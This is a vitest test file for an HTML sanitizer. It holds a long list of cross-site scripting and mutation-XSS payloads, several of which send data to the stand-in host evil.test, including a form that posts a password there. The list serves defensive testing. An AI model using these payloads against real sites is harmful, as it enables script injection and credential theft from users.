import { describe, expect, it } from 'vitest'
import { escapeHtml, safeHtml } from './safe-html.ts'

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror = "alert(1)"/>',
  '<img/src="x"/onerror=alert(1)>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
  '<svg><script>alert(1)</script></svg><svg onload=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<style>@import url(//evil.test/x.css)</style>',
  '<link rel=stylesheet href=//evil.test/x.css><base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="https://evil.test/steal"><input name=password></form>',
  '<form action="//evil.test/steal"></form><form action="/\\evil.test"></form>',
  '<form><button formaction="https://evil.test/">x</button></form>',
  '<input type=image src=x onerror=alert(1)><input type=file>',
  '<div style="background:url(https://evil.test/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:u\\72l(//evil.test)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="a&quot; onclick=&quot;alert(1)">x</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)',
  '<video><source onerror=alert(1)></video>',
  '<a href="https://x.test" target="_top" ping="https://evil.test">x</a>',
  '<p>\0<scr\0ipt>alert(1)</script></p>',
  // Mutation XSS: text that becomes markup when a browser parses it again in another mode.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<p title="`<img src=x onerror=alert(1)>">x</p>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<div><title><!--</title><img src=x onerror=alert(1)>--></div>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
  // Schemes behind entities, control characters, blanks and letter case.
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a><a href="\u00a0javascript:alert(1)">y</a>',
  '<a href="java\u00adscript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a><a href="feed:javascript:alert(1)">y</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="blob:https://x/y">y</a>',
  '<img src="javascript:alert(1)"><img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="http://evil.test/pixel"><img srcset="https://evil.test/x 1x" lowsrc="//evil.test">',
  '<form action="javascript:alert(1)"></form><form action="data:text/html,x"></form>',
  '<form action="/\t/evil.test"></form>',
  '<a href="https://x.test" xlink:href="javascript:alert(1)" on\nclick=alert(1)>x</a>',
  // Style attributes that break out or load.
  '<div style="color:red&quot; onclick=&quot;alert(1)">x</div>',
  '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="@import \'https://evil.test/x\'">x</div>',
  '<div style="-moz-binding:url(https://evil.test/x#y)">x</div>',
  '<div style="background:image-set(\'https://evil.test/x\' 1x)">x</div>',
  // Attribute and element names that are no names.
  '<p "><img src=x onerror=alert(1)>',
  '<p \u0000onclick=alert(1) /onclick=alert(1)>x</p>',
  '<a/href="javascript:alert(1)"/>x</a>',
  '<<script>alert(1)//<</script>',
  '<constructor onclick=alert(1)>x</constructor><__proto__>y</__proto__>',
]

describe('hostile markup', () => {
  it.each(HOSTILE)('runs and loads nothing: %s', (html) => {
    const safe = safeHtml(html)
    // The only angle brackets are those of allowed elements.
    const tags = safe.match(/<[^>]*>/g) ?? []
    for (const tag of tags) {
      expect(tag).toMatch(/^<\/?[a-z0-9]+( [a-z]+="[^"<>]*")*>$/)
      expect(tag.replace(/="[^"]*"/g, '=')).not.toMatch(/ (on[a-z]+|formaction|srcdoc)=/i)
      expect(tag).not.toMatch(/javascript|vbscript|evil\.test|expression/i)
      expect(tag).not.toMatch(
        /^<\/?(script|style|svg|math|iframe|object|embed|link|base|meta|form action)/,
      )
    }
    expect(safe.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
  })

  it.each(HOSTILE)('does not change when it is sanitized again: %s', (html) => {
    const once = safeHtml(html)
    expect(safeHtml(once)).toBe(once)
  })

  it('takes less than three seconds of CPU time at great depth and length', () => {
    const start = process.cpuUsage()
    safeHtml('<div>'.repeat(20_000))
    safeHtml('<'.repeat(100_000))
    safeHtml(`<a ${'x='.repeat(50_000)}`)
    safeHtml('<p style="'.repeat(10_000))
    expect(process.cpuUsage(start).user).toBeLessThan(3_000_000)
  })
})

it('keeps ordinary markup and closes open elements', () => {
  expect(
    safeHtml('<h1 class="big">Hi &amp; welcome</h1><p style="color: red">to <b>us<br></p>'),
  ).toBe('<h1 class="big">Hi &amp; welcome</h1><p style="color: red;">to <b>us<br></b></p>')
  expect(
    safeHtml('<form action="/login" method="post"><input type="password" name="p"></form>'),
  ).toBe('<form action="/login" method="post"><input type="password" name="p"></form>')
  expect(safeHtml('<a href="https://x.test/?a=1&b=2">x</a><img src="/logo.png" alt="">')).toBe(
    '<a href="https://x.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a><img src="/logo.png" alt="">',
  )
})

it('keeps embedded images, and images of this and of other sites over https', () => {
  for (const src of ['data:image/png;base64,iVBORw0KGgo=', 'https://cdn.test/x.png', '/x.png']) {
    expect(safeHtml(`<img src="${src}">`)).toBe(`<img src="${src}">`)
  }
})

it('drops elements below the nesting limit but keeps their text', () => {
  const deep = safeHtml(`${'<div>'.repeat(150)}text${'</div>'.repeat(150)}`)
  expect(deep).toBe(`${'<div>'.repeat(100)}text${'</div>'.repeat(100)}`)
})

it('escapes text for elements and attributes', () => {
  expect(escapeHtml(`<a b="c" d='e'>&\``)).toBe('&#60;a b=&#34;c&#34; d=&#39;e&#39;&#62;&#38;&#96;')
})
